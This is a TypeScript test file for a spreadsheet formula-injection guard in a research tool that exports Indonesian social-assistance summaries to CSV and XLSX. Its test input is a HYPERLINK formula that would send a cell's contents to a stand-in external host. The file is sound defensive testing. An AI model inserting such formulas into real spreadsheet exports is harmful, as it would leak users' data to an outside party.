import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { readCsv, writeCsv } from '../../shared/formats/csv.ts';
import { neutraliseFormula, restoreFormula } from '../../shared/formats/formula-guard.ts';
import { exportSummaries, importSummaries } from '../../shared/formats/summaries-csv.ts';
import { exportTables } from '../../shared/formats/tables-write.ts';
import { codedStudy } from './sample-project.ts';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
/** Reading a file makes its line ends `\n`, a cell's leading carriage return included. */
const asRead = (cell: string) => cell.replace(/\r/g, '\n');
const name = (c: string) => `U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;

describe('formula injection guard', () => {
  for (const c of TRIGGERS) {
    it(`writes a CSV cell beginning with ${name(c)} as text behind an apostrophe, and reads it back unchanged`, () => {
      const cell = `${c}HYPERLINK("http://x.example/?d="&A1)`;
      const csv = writeCsv([['summary'], [cell]]);
      const written = readRaw(csv);
      expect(written.startsWith(`'${c}`)).toBe(true);
      expect(readCsv(csv, 'r.csv', { required: ['summary'] })[0]!.values.summary).toBe(asRead(cell));
    });

    it(`writes an XLSX table cell beginning with ${name(c)} as text behind an apostrophe`, async () => {
      const p = codedStudy();
      const summary = `${c}1+1 dibahas`;
      const project = { ...p, summaries: [{ code: '4.1.1', assistantType: 'PKH', text: summary, exemplars: [] }] };
      const [file] = await exportTables(project, { mode: 'summary', format: 'xlsx', lang: 'id', roles: [1] });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((file!.content as Uint8Array).buffer as ArrayBuffer);
      const values = workbook.worksheets[0]!.getSheetValues().flat().filter((v): v is string => typeof v === 'string');
      // XML, like CSV, reads a carriage return back as a line feed.
      expect(values.map(asRead)).toContain(asRead(`'${summary}`));
      expect(values.map(asRead)).not.toContain(asRead(summary));
      expect(workbook.worksheets[0]!.getCell('C3').formula).toBeUndefined();
    });
  }

  it('leaves ordinary text, codes and numbers as they are', () => {
    for (const cell of ['4.1.2', 'Pendamping PKH', '12', '', 'e-Warong', "'quoted"]) expect(neutraliseFormula(cell)).toBe(cell);
  });

  it('round-trips text that already begins with apostrophes before a trigger', () => {
    for (const cell of ["'=A1", "''-x", "'"]) expect(restoreFormula(neutraliseFormula(cell))).toBe(cell);
  });

  it('guards summaries that begin with "- " bullets in the summaries CSV and in the table CSV, and imports them back as written', async () => {
    const p = codedStudy();
    const text = '- pendamping menyalurkan\n- KPM mengambil di e-Warong';
    const project = { ...p, summaries: [{ code: '4.1.1', assistantType: 'PKH', text, exemplars: [] }] };
    const csv = exportSummaries(project);
    expect(csv).toContain(`"'- pendamping`);
    expect(importSummaries(p, csv, 'ringkasan.csv').summaries.find((s) => s.code === '4.1.1' && s.assistantType === 'PKH')?.text).toBe(text);
    const files = await exportTables(project, { mode: 'summary', format: 'csv', lang: 'id', roles: [1] });
    expect(files[0]!.content as string).toContain(`"'- pendamping`);
  });
});

/** The first data cell exactly as it stands in the file. */
function readRaw(csv: string): string {
  const body = csv.slice(csv.indexOf('\r\n') + 2);
  return body.startsWith('"') ? body.slice(1) : body;
}
